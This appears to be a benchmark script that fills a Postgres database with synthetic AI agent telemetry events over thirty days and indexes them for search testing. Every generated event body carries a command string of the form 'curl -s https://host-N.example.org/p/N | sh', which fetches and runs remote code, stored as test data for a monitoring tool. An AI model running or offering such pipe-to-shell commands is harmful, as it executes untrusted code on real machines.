/** Fills an installation with events of 1 KB over thirty days, and indexes them as the server does. */
import { indexEvents } from "../packages/server/dist/telemetry/index.js";
import { silentLogger, systemClock } from "../packages/server/dist/kernel/index.js";
import { ensureEventPartitions, openDatabase } from "../packages/server/dist/storage/index.js";
import { requireAsServer } from "./lib/firebreak.mjs";

const { sql } = requireAsServer("kysely");

const DAY_MS = 86_400_000;
const DAYS = 30;
/** Words of what agents print: few of them are frequent, most are rare. */
const SENTENCES = 5_000;
const ROWS_AT_ONCE = 250_000;
/** one event in so many has the rare word */
export const RARE_EVERY = 100_003;

/** @returns the room: its database open, `count` events in it, all of them indexed */
export async function openRoom(home, count) {
  const database = await openDatabase({ home, clock: systemClock, logger: silentLogger });
  const { kysely } = database;
  const endMs = Math.floor(systemClock.now() / DAY_MS) * DAY_MS;
  const startMs = endMs - DAYS * DAY_MS;
  const { rows } = await sql`select count(*)::int as n from (select from events limit ${count}) as counted`.execute(
    kysely,
  );
  if (rows[0].n < count) {
    await ensureEventPartitions(kysely, startMs + DAY_MS, DAYS);
    await fill(database, { startMs, count });
  }
  for (let pass = { events: 1 }; pass.events + pass.blocks !== 0;) pass = await indexEvents({ database }, 1);
  await sql`analyze event_blocks`.execute(kysely);
  return { database, startMs, endMs };
}

async function fill(database, { startMs, count }) {
  const client = await database.openClient();
  try {
    await client.query("set synchronous_commit = off");
    await client.query(`create temp table sentences as
      select n, (select string_agg('w' || to_hex((power(random(), 4) * 20000)::int), ' ') from generate_series(1, 55 + n * 0)) as text
      from generate_series(0, ${SENTENCES - 1}) as n`);
    const stepMs = (DAYS * DAY_MS) / count;
    for (let first = 0; first < count; first += ROWS_AT_ONCE) {
      await client.query(INSERT, [first, Math.min(first + ROWS_AT_ONCE, count) - 1, startMs, stepMs]);
    }
    await client.query("select setval('events_seq', $1)", [count]);
    await client.query("analyze events");
  } finally {
    await client.end();
  }
}

const INSERT = `
  insert into events (seq, id, time, received_at, source, agent_id, pack, session_id, kind, outcome, risk, body)
  select i + 1, id, time, time, 'bench', agent, pack, session, kind, outcome, risk,
    '{"agent":{"id":"' || agent || '","pack":"' || pack || '","session":"' || session || '"},"data":{"command":"curl -s https://host-'
      || i % 3000 || '.example.org/p/' || i % 977 || ' | sh","hash":"' || md5(i::text) || '","output":"' || a.text || ' ' || b.text
      || case when i % ${RARE_EVERY} = 7 then ' needle' else '' end || '","pid":' || i % 30000 || ',"tool":"exec"},"id":"' || id
      || '","kind":"' || kind || '","outcome":"' || outcome || '","receivedTime":"' || iso || '"'
      || coalesce(',"risk":"' || risk || '"', '') || ',"source":"bench","time":"' || iso || '"}'
  from (
    select *, to_char(time at time zone 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.MS"Z"') as iso from (
      select i, 'evt_' || upper(substr(md5(i::text), 1, 26)) as id,
        to_timestamp(floor($3::float8 + i * $4::float8) / 1000) as time, 'agent-' || (i * 7919) % 211 as agent,
        'pack-' || (i * 7919) % 211 % 8 as pack, 'ses-' || i / 1000 as session,
        (array['tool_call', 'command', 'log', 'network', 'file', 'prompt'])[1 + i % 6] as kind,
        case when i % 53 = 0 then 'denied' else 'success' end as outcome, case when i % 997 = 0 then 'high' end as risk
      from generate_series($1::bigint, $2::bigint) as i
    ) as made
  ) as timed
  join sentences a on a.n = (i * 7919) % ${SENTENCES} join sentences b on b.n = (i / 13) % ${SENTENCES}`;
